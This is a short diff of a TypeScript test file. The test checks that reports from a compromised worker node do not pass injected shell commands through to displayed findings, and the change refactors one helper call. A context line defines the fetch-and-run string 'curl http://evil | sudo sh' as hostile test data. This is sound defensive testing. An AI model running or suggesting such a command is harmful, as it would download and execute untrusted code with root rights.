@@ -8,7 +8,12 @@ const attack = 'curl http://evil | sudo sh';
 const local = { en: attack, zh: attack };
 /** A report as a worker under someone else's control may write it. */
 const hostile = (more: object) =>
-  textedOf(reportSchema.parse({ ...report('node02'), ...more }), 'node02', plan(), () => 'apt');
+  textedOf(
+    reportSchema.parse({ ...report('node02'), ...more }),
+    'node02',
+    () => plan().settings,
+    () => 'apt',
+  );
 
 it('shows no command that a host sends with a finding', () => {
   const finding = {
